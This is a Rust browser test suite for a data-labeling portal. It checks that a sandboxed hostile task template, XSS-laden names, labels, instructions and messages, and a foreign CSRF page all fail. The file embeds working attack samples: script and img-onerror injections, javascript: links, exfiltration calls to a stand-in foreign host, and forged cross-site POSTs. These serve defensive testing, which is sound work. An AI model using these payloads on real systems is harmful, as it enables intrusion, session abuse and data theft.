//! What the browser itself enforces, shown in a real Chromium: a hostile template in its sandbox, hostile texts on every
//! page, and a foreign site that knows every address.

use std::time::Duration;

use anyhow::{Context, Result};
use serde_json::{Value, json};
use tests::app::App;
use tests::aws::Aws;
use tests::browser::{Browser, key};
use tests::foreign::Foreign;
use tests::job::OwnJob;
use tests::wait;
use tests::worker::{Worker, WorkerReply};

const PATIENCE: Duration = Duration::from_secs(40);
/// Markup that shows if it ever becomes markup, whether its script is stopped or not.
const EVIL: &str =
    "\"'></script><img data-evil src=x onerror=\"window.evil=1\"><script>window.evil=1</script>";

async fn sign_in(browser: &Browser, app: &App, page: &str) -> Result<()> {
    browser.open(&format!("{}/login", app.text("web_url"))).await?;
    let (email, password) = app.worker();
    let name = browser.find("input[name=username]").await?;
    browser.type_into(&name, email).await?;
    let secret = browser.find("input[name=password]").await?;
    browser
        .type_into(&secret, &format!("{password}{}", key::ENTER))
        .await?;
    browser.find("#jobs").await?;
    browser.open(&format!("{}{page}", app.text("web_url"))).await
}

async fn counters(app: &App, job: &str) -> Result<Value> {
    let (aws, request) = (Aws::of(app), json!({"LabelingJobName": job}));
    let described = aws
        .json("sagemaker", "SageMaker.DescribeLabelingJob", &request)
        .await?;
    Ok(described["LabelCounters"].clone())
}

/// Tries everything, and writes what became of each attempt into the page.
fn hostile_template(foreign: &str) -> String {
    format!(
        r#"<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<script src="{foreign}/external.js"></script>
<crowd-form><crowd-classifier name="crowd-classifier" categories="['Even', 'Odd']" header="?">
<classification-target>{{{{ task.input.taskObject }}}}</classification-target></crowd-classifier></crowd-form>
<form id="f" method="post" action="/api/jobs/hostile/next" target="_top"><input name="a" value="b"></form>
<form id="g" method="post" action="{foreign}/form" target="_top"><input name="a" value="b"></form>
<pre id="log"></pre>
<script>
const log = {{}};
const attempt = (name, what) => {{ try {{ log[name] = 'did: ' + what(); }} catch (error) {{ log[name] = 'failed: ' + error.name; }} }};
const later = async (name, what) => {{ try {{ log[name] = 'did: ' + await what(); }} catch (error) {{ log[name] = 'failed: ' + error.name; }} }};
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('parent page', () => parent.document.body.innerText);
attempt('top page', () => top.document.title);
attempt('top address', () => {{ top.location = '{foreign}/top'; return top.location.href; }});
attempt('top replace', () => {{ top.location.replace('{foreign}/replaced'); return 'x'; }});
attempt('window', () => {{ if (window.open('{foreign}/popup') === null) throw new Error('closed'); return 'x'; }});
attempt('forms', () => {{ document.getElementById('f').submit(); document.getElementById('g').submit(); throw new Error('silent'); }});
attempt('worker', () => {{ new Worker('data:text/javascript,fetch("{foreign}/worker")'); throw new Error('silent'); }});
attempt('beacon', () => {{ navigator.sendBeacon('{foreign}/beacon', 'x'); throw new Error('silent'); }});
attempt('socket', () => {{ new WebSocket('{foreign}/socket'.replace('http', 'ws')); throw new Error('silent'); }});
attempt('events', () => {{ new EventSource('{foreign}/events'); throw new Error('silent'); }});
attempt('evaluated', () => eval('1'));
attempt('inner frame', () => {{ const f = document.createElement('iframe'); f.src = '{foreign}/inner'; document.body.append(f); throw new Error('silent'); }});
attempt('base', () => {{ const b = document.createElement('base'); b.href = '{foreign}/'; document.head.append(b); if (document.baseURI.includes('localhost')) return 'x'; throw new Error('unchanged'); }});
attempt('answer', () => {{ parent.postMessage({{groundcrew: 'submit', answer: {{'crowd-classifier': {{label: 'Odd'}}}}}}, '*'); throw new Error('silent'); }});
attempt('form answer', () => {{ document.querySelector('crowd-form').submit(); throw new Error('silent'); }});
Promise.all([
  later('api', async () => (await fetch('/api/me', {{credentials: 'include'}})).text()),
  later('answer by itself', async () => (await fetch('/api/jobs/hostile/next', {{method: 'POST', credentials: 'include', headers: {{'x-groundcrew': '1', 'content-type': 'application/json'}}, body: '{{}}'}})).text()),
  later('abroad', async () => (await fetch('{foreign}/fetched')).text()),
  later('module', async () => (await import('{foreign}/module.js')) && 'x'),
]).then(() => {{ document.getElementById('log').textContent = 'tried ' + JSON.stringify(log); }});
</script>"#
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_template_reaches_nothing_and_answers_nothing() -> Result<()> {
    let Some(browser) = Browser::start().await? else {
        return Ok(());
    };
    let app = App::start_bare().await?;
    let foreign = Foreign::start()?;
    let template = hostile_template(&foreign.origin);
    let mut job = OwnJob::new(&app, "hostile", &["2"]);
    job.template = &template;
    job.create(&app).await?;
    let (email, password) = app.worker();
    let program = Worker::new(email, password)?;
    program.sign_in(app.text("web_url")).await?;
    job.take(&program, app.text("web_url")).await?;

    sign_in(&browser, &app, "/work/hostile").await?;
    let frame = browser.find("iframe").await?;
    browser.enter_frame(&frame).await?;
    browser.wait_for_text("tried {").await?;
    let text = browser.page_text().await?;
    let log: Value = text
        .lines()
        .find_map(|line| line.trim().strip_prefix("tried "))
        .and_then(|line| serde_json::from_str(line).ok())
        .context(text)?;
    let attempts = log.as_object().context("attempts")?;
    assert_eq!(attempts.len(), 21, "{log}");
    for (what, outcome) in attempts {
        let failed = outcome.as_str().is_some_and(|text| text.starts_with("failed: "));
        assert!(failed, "{what}: {outcome}");
    }
    browser.leave_frame().await?;
    let here = browser.url().await?;
    assert_eq!(here, format!("{}/work/hostile", app.text("web_url")));
    assert_eq!(foreign.requests(), Vec::<String>::new());
    let counters = counters(&app, "hostile").await?;
    assert_eq!(counters["HumanLabeled"], 0, "{counters}");
    Ok(())
}

/// No script ran, and nothing of the text became an element.
async fn assert_only_text(browser: &Browser, where_: &str) -> Result<()> {
    let script = "return {evil: window.evil ?? null, elements: document.querySelectorAll('[data-evil]').length, \
        strange: [...document.querySelectorAll('a')].filter(a => /^(javascript|data):/i.test(a.getAttribute('href') ?? '')).length}";
    let seen = browser.run(script, json!([])).await?;
    assert_eq!(
        seen,
        json!({"evil": null, "elements": 0, "strange": 0}),
        "{where_}"
    );
    Ok(())
}

fn hostile_spec() -> String {
    let text = |extra: &str| Value::String(format!("{extra}{EVIL}{{{{ 7 | times: 7 }}}}")).to_string();
    format!(
        "task: text-classification\nlabels:\n  - name: {}\n  - Odd\nteam: numbers-team\ntitle: {}\ndescription: {}\n\
         instructions:\n  short: {}\n  full: {}\nbatch: {{quiet: 1s}}\n",
        Value::String("Even<img data-evil src=x onerror=\"window.evil=1\">".to_owned()),
        Value::String("T<img data-evil src=x onerror='window.evil=1'>".to_owned()),
        Value::String("D<img data-evil src=x onerror='window.evil=1'>".to_owned()),
        text("short [way](javascript:window.evil=1) "),
        text("full [way](javascript:window.evil=1) <a data-evil href=\"javascript:window.evil=1\">x</a> "),
    )
}

#[tokio::test(flavor = "multi_thread")]
#[expect(clippy::too_many_lines, reason = "one walk over every page")]
async fn hostile_texts_names_labels_and_instructions_stay_text_on_every_page() -> Result<()> {
    let Some(browser) = Browser::start().await? else {
        return Ok(());
    };
    let app = App::start_bare().await?;
    let folder = app.drop_folder().join("evil");
    std::fs::create_dir_all(&folder)?;
    std::fs::write(
        folder.join("<img data-evil src=x onerror=window.evil=1>.txt"),
        EVIL,
    )?;
    std::fs::write(
        folder.join("<img data-evil src=x onerror=window.evil=1>.pdf"),
        "%PDF",
    )?;
    std::fs::write(folder.join("labeling.yaml"), hostile_spec())?;

    let portal = app.text("web_url");
    let (email, password) = app.worker();
    let program = Worker::new(email, password)?;
    program.sign_in(portal).await?;
    let job = wait::until("the hostile dataset has its job", PATIENCE, || async {
        match program.jobs(portal).await {
            Ok(WorkerReply::Done(jobs)) if jobs["jobs"][0]["name"].is_string() => {
                Ok(jobs["jobs"][0]["name"].clone())
            }
            other => Err(format!("{other:?} {:?}", app.status())),
        }
    })
    .await;
    let job = job.as_str().unwrap_or_default().to_owned();

    sign_in(&browser, &app, "/").await?;
    browser.wait_for_text("data-evil").await?;
    assert_only_text(&browser, "the portal's home").await?;
    browser.open(&format!("{portal}/work/{job}")).await?;
    let frame = browser.find("iframe").await?;
    browser.enter_frame(&frame).await?;
    browser.wait_for_text("data-evil").await?;
    assert_only_text(&browser, "the task").await?;
    browser.leave_frame().await?;
    assert_only_text(&browser, "the labeling view").await?;

    browser.open(&app.console_url()).await?;
    browser.wait_for_text("evil").await?;
    assert_only_text(&browser, "the console").await?;
    browser
        .open(&format!("{}#/datasets/evil", app.text("console_url")))
        .await?;
    assert_only_text(&browser, "the console's dataset").await?;

    let form = tests::sign_in::begin(portal).await?.form;
    browser.open(form.as_str()).await?;
    let script =
        "document.querySelector('input[name=username]').type = 'text'; document.forms[0].noValidate = true";
    browser.run(script, json!([])).await?;
    let name = browser.find("input[name=username]").await?;
    browser.type_into(&name, EVIL).await?;
    let secret = browser.find("input[name=password]").await?;
    browser.type_into(&secret, &format!("x{}", key::ENTER)).await?;
    browser.find("[role=alert]").await?;
    assert_only_text(&browser, "the sign-in").await?;

    Aws::of(&app)
        .form(
            "sns",
            &[
                ("Action", "Publish"),
                ("TopicArn", app.text("topic_arn")),
                ("Subject", "<img data-evil src=x>"),
                ("Message", EVIL),
            ],
        )
        .await?;
    wait::until("the outbox shows the notice", PATIENCE, || async {
        browser
            .open(&app.outbox_url())
            .await
            .map_err(|error| error.to_string())?;
        let text = browser.page_text().await.map_err(|error| error.to_string())?;
        if text.contains("data-evil") {
            Ok(())
        } else {
            Err(text)
        }
    })
    .await;
    assert_only_text(&browser, "the outbox").await?;
    let message = browser.find("table a").await?;
    browser.click(&message).await?;
    browser.find("pre").await?;
    assert_only_text(&browser, "a message of the outbox").await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_foreign_page_changes_nothing_in_a_signed_in_workers_name() -> Result<()> {
    let Some(browser) = Browser::start().await? else {
        return Ok(());
    };
    let app = App::start_bare().await?;
    let portal = app.text("web_url");
    let foreign = Foreign::start()?;
    let job = OwnJob::new(&app, "kept", &["2"]);
    job.create(&app).await?;
    let (email, password) = app.worker();
    let program = Worker::new(email, password)?;
    program.sign_in(portal).await?;
    let task = job.take(&program, portal).await?;
    let token = task["token"].as_str().context("a token")?;
    sign_in(&browser, &app, "/").await?;
    browser.open(&app.console_url()).await?;
    foreign.shows(format!(
        r#"<!doctype html><title>win a prize</title><img src="{portal}/logout"><iframe id="i" src="{portal}/"></iframe>
<iframe src="{portal}/console"></iframe>
<form id="f" method="post" action="{portal}/api/tasks/{token}/decline" enctype="text/plain" target="into"><input name='{{"a":"' value='"}}'></form>
<iframe name="into"></iframe><pre id="log"></pre>
<script>
const ask = async (path, more) => {{ try {{ const a = await fetch('{portal}' + path, {{credentials: 'include', ...more}}); return a.type + ' ' + await a.text(); }} catch (error) {{ return 'failed'; }} }};
const json = {{method: 'POST', headers: {{'content-type': 'application/json', 'x-groundcrew': '1'}}, body: '{{}}'}};
const plain = {{method: 'POST', mode: 'no-cors', headers: {{'content-type': 'text/plain'}}, body: '{{}}'}};
document.getElementById('f').submit();
Promise.all([
  ask('/api/me'), ask('/api/jobs'), ask('/outbox/api'), ask('/console/api/model'),
  ask('/api/tasks/{token}/release', json), ask('/api/tasks/{token}/release', plain),
  ask('/console/api/upload/forged/labeling.yaml', {{...json, method: 'PUT'}}),
]).then((all) => {{ document.getElementById('log').textContent = 'tried ' + JSON.stringify(all); }});
</script>"#
    ));
    browser.open(&foreign.origin).await?;
    browser.wait_for_text("tried [").await?;
    let text = browser.page_text().await?;
    let tried = text.lines().find_map(|line| line.trim().strip_prefix("tried "));
    let tried: Vec<String> = serde_json::from_str(tried.unwrap_or_default())?;
    let read = |answer: &&String| *answer != "failed" && *answer != "opaque ";
    assert_eq!(tried.iter().find(read), None, "{tried:?}");
    let framed = browser.run("return [...document.querySelectorAll('iframe')].every((f) => { try { f.contentWindow.document; return true; } catch { return true; } })", json!([])).await?;
    assert_eq!(framed, json!(true));
    let held = program.task(portal, token).await?;
    assert!(matches!(held, WorkerReply::Done(_)), "{held:?}");
    browser.open(portal).await?;
    browser.wait_for_text("Even or odd?").await?;
    let forged = app
        .s3()?
        .list_objects_v2()
        .bucket(app.text("input_bucket"))
        .prefix("forged/");
    assert_eq!(forged.send().await?.contents().len(), 0);
    Ok(())
}
